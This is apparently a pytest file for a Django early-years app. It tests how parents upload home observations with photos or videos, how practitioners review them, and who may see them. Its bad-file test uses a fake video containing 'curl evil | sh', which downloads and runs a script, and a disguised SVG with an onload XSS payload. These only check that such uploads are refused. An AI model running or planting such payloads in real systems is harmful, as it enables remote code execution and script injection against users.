"""Home observations (issue 22): a note and an optional photo or short video, type checked from
its bytes, stored privately, reviewed by the setting or the SEND team before it joins the
record; the family sees whether it was added."""

from __future__ import annotations

import pytest
from django.core.files.storage import storages
from django.urls import reverse

from pathway.family_story import services
from pathway.models import Agency, HomeObservation

from .conftest import JPEG_BYTES, MP4_BYTES, agree, sign_in, upload

NOTE = "She stacked six bricks and said 'tower'"


def _private_files() -> list[str]:
    store = storages["private"]
    try:
        _, files = store.listdir("home-observations/")
    except FileNotFoundError:
        return []
    found = []
    for folder in store.listdir("home-observations/")[0]:
        found += store.listdir(f"home-observations/{folder}/")[1]
    return found + files


def _add(client, child, **data):
    return client.post(
        reverse("family-home-observation-new", args=[child.pk]),
        {"eyfs_area": "communication_language", "note": NOTE, **data},
    )


def test_a_parent_adds_one_with_a_photo_and_it_waits_to_be_looked_at(
    client, sharing, family_a, django_assert_max_num_queries
):
    sign_in(client, family_a.token)
    response = _add(client, sharing.child_a, media=upload("IMG_0001.JPG", JPEG_BYTES, "image/jpeg"))
    assert response.status_code == 302
    observation = HomeObservation.objects.get()
    assert observation.status == HomeObservation.Status.WAITING
    assert observation.media_type == "image/jpeg" and observation.added_by == family_a.member
    assert observation.media.name.startswith(f"home-observations/{sharing.child_a.pk}/")
    assert observation.media.name.endswith(".jpg") and "IMG_0001" not in observation.media.name
    page = client.get(reverse("family-home-observations", args=[sharing.child_a.pk]))
    assert "Waiting to be looked at" in page.content.decode()
    # The family opens their own photo; it is streamed, never a public URL.
    photo = client.get(reverse("family-home-observation-media", args=[observation.pk]))
    assert photo.status_code == 200 and photo["Content-Type"] == "image/jpeg"
    assert b"".join(photo.streaming_content) == JPEG_BYTES
    assert "no-store" in photo["Cache-Control"]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("clip.mp4", b"#!/bin/sh\ncurl evil | sh\n", "a video (MP4, MOV or WebM)"),
        ("photo.png", b"<svg onload=alert(1)>", "a photo (JPG, PNG or HEIC)"),
        ("big.mp4", MP4_BYTES + b"\x00" * 3000, "must be smaller than"),
    ],
)
def test_a_bad_file_is_refused_with_a_clear_message_and_nothing_is_saved(
    client, sharing, family_a, settings, name, content, message
):
    settings.HOME_OBSERVATION_MAX_BYTES = 2048
    sign_in(client, family_a.token)
    response = _add(client, sharing.child_a, media=upload(name, content))
    assert response.status_code == 400
    page = response.content.decode()
    assert "govuk-error-summary" in page and message in page
    assert not HomeObservation.objects.exists()
    assert _private_files() == []


def test_no_note_or_no_area_is_refused(client, sharing, family_a):
    sign_in(client, family_a.token)
    response = _add(client, sharing.child_a, note="", eyfs_area="")
    assert response.status_code == 400
    page = response.content.decode()
    assert "Write what you saw" in page and "Choose what it is about" in page
    assert not HomeObservation.objects.exists()


def test_a_failure_after_the_file_is_stored_leaves_no_file_and_no_row(
    sharing, family_a, monkeypatch
):
    def broken(*args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(services, "record_event_on_latest", broken)
    with pytest.raises(RuntimeError):
        services.add_home_observation(
            sharing.child_a,
            family_a.member,
            eyfs_area="physical",
            note=NOTE,
            upload=upload("a.mp4", MP4_BYTES),
        )
    assert not HomeObservation.objects.exists()
    assert _private_files() == []


def test_the_setting_accepts_it_and_the_family_sees_it_was_added(client, sharing, family_a):
    observation = services.add_home_observation(
        sharing.child_a, family_a.member, eyfs_area="physical", note=NOTE
    )
    client.force_login(sharing.practitioner_a)
    url = reverse("story-home-observation", args=[observation.pk])
    assert client.get(url).status_code == 200
    response = client.post(url, {"decision": "accept"})
    assert response.status_code == 302
    observation.refresh_from_db()
    assert observation.status == HomeObservation.Status.ACCEPTED
    assert observation.reviewed_by == sharing.practitioner_a
    child_page = client.get(reverse("child-detail", args=[sharing.child_a.pk])).content.decode()
    assert "From home: Physical development" in child_page and "six bricks" in child_page
    # Decided once: a second decision is refused.
    response = client.post(url, {"decision": "decline", "reason": "Changed my mind"})
    assert response.status_code == 400
    observation.refresh_from_db()
    assert observation.status == HomeObservation.Status.ACCEPTED
    client.logout()
    sign_in(client, family_a.token)
    page = client.get(reverse("family-home-observations", args=[sharing.child_a.pk]))
    assert "Added to your child&#x27;s record" in page.content.decode()


def test_declining_needs_a_reason_the_family_reads(client, sharing, family_a):
    observation = services.add_home_observation(
        sharing.child_a, family_a.member, eyfs_area="physical", note=NOTE
    )
    client.force_login(sharing.send_officer)
    url = reverse("story-home-observation", args=[observation.pk])
    response = client.post(url, {"decision": "decline", "reason": ""})
    assert response.status_code == 400 and "govuk-error-summary" in response.content.decode()
    client.post(url, {"decision": "decline", "reason": "This is about her brother"})
    observation.refresh_from_db()
    assert observation.status == HomeObservation.Status.DECLINED
    client.logout()
    sign_in(client, family_a.token)
    page = client.get(reverse("family-home-observations", args=[sharing.child_a.pk]))
    assert "Not added" in page.content.decode() and "about her brother" in page.content.decode()


def test_the_portage_worker_reads_but_does_not_decide(client, sharing, family_a):
    observation = services.add_home_observation(
        sharing.child_a, family_a.member, eyfs_area="physical", note=NOTE
    )
    client.force_login(sharing.portage_a)
    url = reverse("story-home-observation", args=[observation.pk])
    assert client.get(url).status_code == 200
    assert client.post(url, {"decision": "accept"}).status_code == 403


@pytest.mark.parametrize("who", ["practitioner_b", "portage_b", "planner", "professional"])
def test_others_cannot_see_review_or_open_the_file(client, sharing, family_a, who):
    observation = services.add_home_observation(
        sharing.child_a,
        family_a.member,
        eyfs_area="physical",
        note=NOTE,
        upload=upload("a.jpg", JPEG_BYTES),
    )
    client.force_login(getattr(sharing, who))
    for name in ("story-home-observation", "story-home-observation-media"):
        assert client.get(reverse(name, args=[observation.pk])).status_code == 404
    assert (
        client.post(
            reverse("story-home-observation", args=[observation.pk]), {"decision": "accept"}
        ).status_code
        == 404
    )


def test_without_the_familys_agreement_the_setting_cannot_open_it(client, world, family_a):
    observation = services.add_home_observation(
        world.child_a, family_a.member, eyfs_area="physical", note=NOTE
    )
    client.force_login(world.practitioner_a)
    url = reverse("story-home-observation", args=[observation.pk])
    assert client.get(url).status_code == 404
    agree(world.child_a, Agency.SETTING)
    assert client.get(url).status_code == 200


def test_another_family_cannot_open_the_file(client, sharing, family_a, make_family):
    observation = services.add_home_observation(
        sharing.child_a,
        family_a.member,
        eyfs_area="physical",
        note=NOTE,
        upload=upload("a.jpg", JPEG_BYTES),
    )
    other = make_family(child=sharing.child_b, name="Ola Nowak", phone="+447700900002")
    sign_in(client, other.token)
    url = reverse("family-home-observation-media", args=[observation.pk])
    assert client.get(url).status_code == 404
    assert (
        client.get(reverse("family-home-observations", args=[sharing.child_a.pk])).status_code
        == 404
    )


def test_the_review_list_stays_at_constant_queries(
    client, sharing, family_a, django_assert_max_num_queries
):
    client.force_login(sharing.practitioner_a)
    url = reverse("story-home-observations", args=[sharing.child_a.pk])
    services.add_home_observation(sharing.child_a, family_a.member, eyfs_area="physical", note="1")
    client.get(url)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as few:
        client.get(url)
    for number in range(5):
        services.add_home_observation(
            sharing.child_a, family_a.member, eyfs_area="physical", note=str(number)
        )
    with django_assert_max_num_queries(len(few)):
        client.get(url)
